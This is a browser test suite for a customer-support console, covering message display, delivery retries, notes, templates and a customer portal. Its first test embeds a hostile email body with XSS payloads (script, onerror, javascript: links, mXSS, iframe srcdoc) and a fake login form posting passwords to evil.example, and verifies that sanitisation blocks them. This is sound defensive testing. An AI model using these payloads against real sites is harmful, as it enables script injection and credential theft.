import { Readable } from 'node:stream'
import type { BrowserContext, Page } from 'playwright-core'
import { beforeAll, describe, expect, it } from 'vitest'
import { systemContext } from '../../server/src/auth/actor.js'
import { upsertCustomer } from '../../server/src/customers/service.js'
import { foldedParts } from '../../server/src/messaging/inbound/fold.js'
import { recordMessage } from '../../server/src/messaging/service.js'
import type { NewMessage } from '../../server/src/messaging/types.js'
import { accessibilityProblems, startConsoleTest } from './browser.js'

const { env, m, base, browser, signIn, call: api } = await startConsoleTest()

// A hostile inbound body: each part would run script, load from elsewhere or dress up as the console if shown as is.
const hostile = `<p>Hello, my parcel never came.</p>
<script>window.__pwned = 'script'</script>
<img src="x" onerror="window.__pwned = 'onerror'" alt="broken">
<a id="track" href="javascript:window.__pwned='link'">Track my parcel</a>
<svg onload="window.__pwned='svg'"><circle r="4"></circle></svg>
<math><mtext><mglyph><style><img src=x onerror="window.__pwned='mxss'"></style></mglyph></mtext></math>
<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>
<form action="https://evil.example/steal"><input name="password" placeholder="Your password"><button>Log in</button></form>
<img src="https://tracker.example/pixel.gif" alt="Shop logo">
<a href="https://shop.example/orders/1001">Your order</a>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/x.png)">Cover</div>
<p class="mantine-Button-root" style="color: darkred">Thanks, Casey</p>`

let caseId = ''
const customer = { address: 'casey@example.com', name: 'Casey' }
const shop = { address: 'support@shop.example', name: 'Shop' }

async function record(input: Partial<NewMessage> & Pick<NewMessage, 'direction' | 'status' | 'text'>, on = caseId) {
  return env.ctx.db.transaction().execute(async (trx) =>
    recordMessage(
      trx,
      systemContext(m.id),
      {
        caseId: on,
        channel: 'email',
        visibility: 'public',
        authorType: input.direction === 'in' ? 'customer' : 'system',
        from: input.direction === 'in' ? customer : shop,
        to: input.direction === 'in' ? [shop] : [customer],
        cc: [],
        subject: 'Where is my parcel?',
        ...input,
      },
      new Date(),
    ),
  )
}

// Every request the pages make stays on the test's server: anything else is recorded and refused.
async function watched(viewport = { width: 1280, height: 900 }) {
  const context = await browser.newContext({ viewport })
  const elsewhere: string[] = []
  await context.route(
    (url) => url.hostname !== '127.0.0.1',
    (route) => {
      elsewhere.push(route.request().url())
      return route.abort()
    },
  )
  const page = await context.newPage()
  const refused: string[] = []
  page.on('console', (msg) => {
    if (/Content Security Policy/i.test(msg.text())) refused.push(msg.text())
  })
  return { context, page, refused, elsewhere }
}

/** A blank page without the console's CSP, to see what HTML does when nothing else protects it. */
async function unprotected(context: BrowserContext, html: string): Promise<Page> {
  const page = await context.newPage()
  await page.setContent('<main id="box"></main>')
  await page.evaluate((h) => {
    document.getElementById('box')!.innerHTML = h
  }, html)
  // Give every image its load or error event before reading the flag (an event, not a sleep).
  await page.waitForFunction(() => Array.from(document.images).every((i) => i.complete), null, { timeout: 30_000 })
  await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r))))
  return page
}

beforeAll(async () => {
  const res = await api('POST', '/cases', { case_type: 'other', subject: 'Where is my parcel?' })
  caseId = res.json().id
  const raw = await env.ctx.blobs.put(Readable.from([Buffer.from(`Subject: Where is my parcel?\r\n\r\n${hostile}`)]), {
    merchantId: m.id,
    maxBytes: 1_000_000,
  })
  await record({
    direction: 'in',
    status: 'received',
    text: 'Hello, my parcel never came.',
    html: hostile,
    rawBlobKey: raw.key,
  })
})

describe('the conversation in Chromium', () => {
  it('shows a hostile inbound HTML body with no script run, nothing refused and nothing fetched from elsewhere', async () => {
    const { context, page, refused, elsewhere } = await watched()
    await signIn(page)
    await page.goto(`${base}/cases/${caseId}`)
    // The conversation shows the text; the HTML as sent is one click away.
    await page.getByRole('button', { name: 'View original' }).click({ timeout: 30_000 })
    const body = page.getByRole('document', { name: 'Message: Where is my parcel?' })
    await body.getByText('Hello, my parcel never came.').waitFor({ timeout: 30_000 })
    await body.getByText('Thanks, Casey').waitFor()

    // What the page holds: no script, handler, frame, form, SVG or MathML; no javascript: link; no console classes.
    const found = await body.evaluate((el) => ({
      scripts: el.querySelectorAll('script, iframe, form, input, button, svg, math, style, object, embed').length,
      handlers: Array.from(el.querySelectorAll('*')).flatMap((n) =>
        Array.from(n.attributes)
          .map((a) => a.name)
          .filter((a) => a.startsWith('on')),
      ),
      hrefs: Array.from(el.querySelectorAll('a')).map((a) => a.getAttribute('href')),
      classes: el.querySelectorAll('[class]').length,
      styles: Array.from(el.querySelectorAll('[style]')).map((n) => n.getAttribute('style')),
      images: Array.from(el.querySelectorAll('img')).map((i) => i.getAttribute('src')),
    }))
    expect(found.scripts).toBe(0)
    expect(found.handlers).toEqual([])
    expect(found.hrefs.filter((h) => h && !/^https:\/\//.test(h))).toEqual([])
    expect(found.classes).toBe(0)
    expect(found.styles).toEqual(['color: darkred'])
    expect(found.images.filter((src) => src !== null)).toEqual([])

    // Links open in a new tab without the console as opener or referrer; the javascript: one is text.
    const order = body.getByRole('link', { name: 'Your order' })
    expect(await order.getAttribute('target')).toBe('_blank')
    expect(await order.getAttribute('rel')).toBe('noopener noreferrer')
    await body.getByText('Track my parcel').click()
    // The remote image is a link to open on purpose, never loaded.
    const image = body.getByRole('link', { name: '[Image: Shop logo]' })
    expect(await image.getAttribute('href')).toBe('https://tracker.example/pixel.gif')
    await page.getByText('A remote image was not loaded').waitFor()

    expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined()
    expect(refused).toEqual([])
    expect(elsewhere).toEqual([])

    // The same sanitised nodes on a page with no CSP at all still run nothing; the raw body there does (the control).
    const clean = await body.evaluate((el) => el.innerHTML)
    const safe = await unprotected(context, clean)
    await safe.getByText('Track my parcel').click()
    expect(await safe.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined()
    const control = await unprotected(context, hostile)
    await control.waitForFunction(() => (window as { __pwned?: string }).__pwned, null, { timeout: 30_000 })
    await context.close()
  })

  it("tells each message's kind and delivery state, retries a failed one, and writes notes and replies", {
    timeout: 180_000,
  }, async () => {
    const casey = await env.ctx.db.transaction().execute(async (trx) => {
      const input = { source: 'shop', externalId: 'c-casey', email: 'casey@example.com', name: 'Casey' }
      return (await upsertCustomer(trx, systemContext(m.id), input, new Date())).customer
    })
    const opened = await api('POST', '/cases', { case_type: 'damaged', subject: 'Mug broken', customer_id: casey.id })
    const id: string = opened.json().id
    const carrier = { address: 'claims@carrier.example', name: 'Carrier claims' }
    await record({ direction: 'in', status: 'received', text: 'My mug arrived broken.' }, id)
    await record(
      {
        direction: 'out',
        status: 'failed',
        statusReason: '550 5.1.1 <casey@example.com>: mailbox unavailable',
        text: 'Sorry to hear that.',
      },
      id,
    )
    await record(
      {
        direction: 'out',
        status: 'held',
        statusReason: 'link QA: not_https: http://shop.example/returns',
        text: 'Return it here.',
      },
      id,
    )
    await record(
      { direction: 'out', status: 'sent', visibility: 'side', to: [carrier], text: 'Please open a damage claim.' },
      id,
    )
    await record({ direction: 'out', status: 'bounced', statusReason: '5.1.1 user unknown', text: 'Any news?' }, id)

    const { context, page, refused } = await watched()
    await signIn(page)
    await page.goto(`${base}/cases/${id}`)
    const conversation = page.getByRole('list', { name: 'Conversation' })
    const items = conversation.getByRole('listitem')
    await expect.poll(() => items.count(), { timeout: 30_000 }).toBe(5)
    expect(await items.evaluateAll((els) => els.map((e) => e.getAttribute('aria-label')))).toEqual([
      'From the customer: Where is my parcel?',
      'Reply to customer: Where is my parcel?',
      'Reply to customer: Where is my parcel?',
      'Side conversation: Where is my parcel?',
      'Reply to customer: Where is my parcel?',
    ])
    const item = (n: number) => items.nth(n)
    await item(1).getByLabel('Delivery: Failed').waitFor()
    await item(1).getByText('550 5.1.1 <casey@example.com>: mailbox unavailable').waitFor()
    await item(2).getByLabel('Delivery: Held').waitFor()
    await item(2)
      .getByText(/link QA: not_https/)
      .waitFor()
    await item(3).getByLabel('Delivery: Sent').waitFor()
    await item(3).getByText('to claims@carrier.example').waitFor()
    await item(4).getByLabel('Delivery: Bounced').waitFor()
    // Failed, held and bounced can go again; sent and received cannot.
    expect(await conversation.getByRole('button', { name: 'Retry' }).count()).toBe(3)
    expect(await item(4).getByRole('button', { name: 'Retry' }).count()).toBe(1)
    expect(await item(0).getByRole('button', { name: 'Retry' }).count()).toBe(0)
    expect(await item(3).getByRole('button', { name: 'Retry' }).count()).toBe(0)

    // Retrying without a mail server says so: nothing pretends to be sent.
    await item(1).getByRole('button', { name: 'Retry' }).click()
    await item(1).getByLabel('Delivery: Not sent').waitFor({ timeout: 30_000 })
    await item(1).getByText('no mail server configured').waitFor()

    // The composer opens on the internal note; a note joins the conversation in its own colour.
    const composer = page.getByRole('form', { name: /^Composer/ })
    expect(await composer.getAttribute('aria-label')).toBe('Composer: Internal note')
    await page.getByRole('combobox', { name: 'Internal note' }).fill('Carrier claim opened, waiting.')
    await composer.getByRole('button', { name: 'Add note' }).click()
    await conversation
      .getByRole('listitem', { name: /^Internal note by/ })
      .getByText('Carrier claim opened, waiting.')
      .waitFor()

    // A side email is a side conversation of its own: the composer opens its dialog (side-conversations.test.ts).
    await composer.getByRole('button', { name: 'New side conversation' }).click()
    await page.getByRole('dialog', { name: 'New side conversation' }).getByRole('button', { name: 'Cancel' }).click()
    await page.getByRole('dialog').waitFor({ state: 'detached' })

    // A reply to the customer that also sets the case waiting on them.
    await composer.locator('label', { hasText: 'Reply to customer' }).click()
    await composer.getByText('casey@example.com').waitFor()
    await page.getByRole('textbox', { name: 'Message to the customer' }).fill('A new mug is on its way.')
    await composer.getByRole('button', { name: 'Send and set waiting on customer' }).click()
    await items.nth(6).getByText('A new mug is on its way.').waitFor({ timeout: 30_000 })
    await items.nth(6).getByLabel('Delivery: Not sent').waitFor()
    await page.getByLabel('Status: Waiting on customer').waitFor({ timeout: 30_000 })
    expect(await page.getByRole('textbox', { name: 'Message to the customer' }).inputValue()).toBe('')

    expect(await accessibilityProblems(page, '[aria-label="Conversation"]')).toEqual([])
    expect(refused).toEqual([])
    await context.close()
  })

  it('folds quoted history and a signature under a toggle, and offers the original as an .eml download', async () => {
    const reply = 'Still nothing, sorry to chase.'
    const quoted = 'On Mon, 1 Jun 2026, Shop <support@shop.example> wrote:\n> We asked the carrier.'
    const text = `${reply}\n\n-- \nCasey\n\n${quoted}`
    await record({ direction: 'in', status: 'received', text, ...foldedParts(text), messageIdHeader: 'fold@x.example' })
    const { context, page } = await watched()
    await signIn(page)
    await page.goto(`${base}/cases/${caseId}`)
    const item = page.getByRole('listitem').filter({ hasText: reply })
    const toggle = item.getByRole('button', { name: 'Show quoted text' })
    await toggle.waitFor({ timeout: 30_000 })
    expect(await item.getByText('We asked the carrier.', { exact: false }).count()).toBe(0)
    await toggle.click()
    await item.getByText(/^-- \s+Casey\s+On Mon, 1 Jun 2026/).waitFor()
    expect(await item.getByRole('button', { name: 'Hide quoted text' }).getAttribute('aria-expanded')).toBe('true')
    // Where the customer's email goes: the case's reply address, under the conversation.
    await page.getByText(/^Customer replies go to reply\+[a-z2-7]{42}@/).waitFor()

    const link = page.getByRole('link', { name: 'Download original (.eml)' })
    await link.waitFor({ timeout: 30_000 })
    const res = await page.request.get(`${base}${await link.getAttribute('href')}`)
    expect(res.status()).toBe(200)
    expect(res.headers()['content-type']).toMatch(/^message\/rfc822/)
    expect((await res.text()).startsWith('Subject: Where is my parcel?')).toBe(true)
    await context.close()
  })

  it('replies with a template previewed for the case', { timeout: 180_000 }, async () => {
    const casey = await env.ctx.db.transaction().execute(async (trx) => {
      const input = { source: 'shop', externalId: 'c-casey', email: 'casey@example.com', name: 'Casey' }
      return (await upsertCustomer(trx, systemContext(m.id), input, new Date())).customer
    })
    const opened = await api('POST', '/cases', {
      case_type: 'late_delivery',
      subject: 'Late boots',
      customer_id: casey.id,
    })
    const id: string = opened.json().id
    const { context, page, refused } = await watched()
    await signIn(page)
    await page.goto(`${base}/cases/${id}`)
    const composer = page.getByRole('form', { name: /^Composer/ })
    await composer.locator('label', { hasText: 'Reply to customer' }).click()
    const picker = composer.getByRole('combobox', { name: 'Template' })
    await picker.click()
    const options = page.getByRole('option')
    await options.first().waitFor({ timeout: 30_000 })
    await options.first().click()
    const preview = composer.getByLabel('Template preview')
    await preview.getByRole('button', { name: 'Use template' }).waitFor({ timeout: 30_000 })
    const subject = (await preview.locator('p').first().textContent()) ?? ''
    await preview.getByRole('button', { name: 'Use template' }).click()
    const body = composer.getByRole('textbox', { name: 'Message to the customer' })
    await expect.poll(() => body.inputValue()).not.toBe('')
    expect(await composer.getByRole('textbox', { name: 'Subject' }).inputValue()).toBe(subject)
    await composer.getByRole('button', { name: 'Send to customer' }).click()
    const items = page.getByRole('list', { name: 'Conversation' }).getByRole('listitem')
    await items
      .first()
      .getByLabel(/^Delivery: /)
      .waitFor({ timeout: 30_000 })
    const sent = (await api('GET', `/cases/${id}/messages`)).json().data
    expect(sent).toHaveLength(1)
    expect(sent[0].template_id).not.toBeNull()
    expect(sent[0].subject).toBe(subject)
    expect(refused).toEqual([])
    await context.close()
  })

  it('lets the customer read the public conversation and answer from the status page on a phone', async () => {
    const opened = await api('POST', '/cases', { case_type: 'other', subject: 'Parcel question' })
    const id: string = opened.json().id
    await record({ direction: 'out', status: 'sent', authorType: 'agent', text: 'We have asked the carrier.' }, id)
    await record({ direction: 'out', status: 'sent', visibility: 'side', text: 'Carrier: please trace RM1.' }, id)
    expect((await api('POST', `/cases/${id}/notes`, { body: 'Customer seems upset' })).statusCode).toBe(201)
    const link = new URL((await api('POST', `/cases/${id}/portal-links`, {})).json().url)

    const { context, page, refused, elsewhere } = await watched({ width: 390, height: 844 })
    await page.goto(`${base}${link.pathname}`)
    const list = page.getByRole('list', { name: 'Messages' })
    await list.getByText('We have asked the carrier.').waitFor({ timeout: 30_000 })
    expect(await page.getByText('Carrier: please trace RM1.').count()).toBe(0)
    expect(await page.getByText('Customer seems upset').count()).toBe(0)

    await page.getByRole('textbox', { name: 'Write to us' }).fill('It has still not arrived.')
    await page.getByRole('button', { name: 'Send message' }).click()
    await list
      .getByRole('listitem', { name: 'You wrote' })
      .getByText('It has still not arrived.')
      .waitFor({ timeout: 30_000 })
    await page.getByRole('status').getByText(/Sent/).waitFor()
    const onCase = (await api('GET', `/cases/${id}/messages`)).json().data as {
      direction: string
      text: string
      channel: string
    }[]
    expect(onCase.filter((x) => x.direction === 'in').map((x) => [x.channel, x.text])).toEqual([
      ['portal', 'It has still not arrived.'],
    ])

    // Usable on a phone: nothing wider than the screen, nothing an accessibility check finds serious.
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390)
    expect(await accessibilityProblems(page)).toEqual([])
    expect(refused).toEqual([])
    expect(elsewhere).toEqual([])
    await context.close()
  })
})
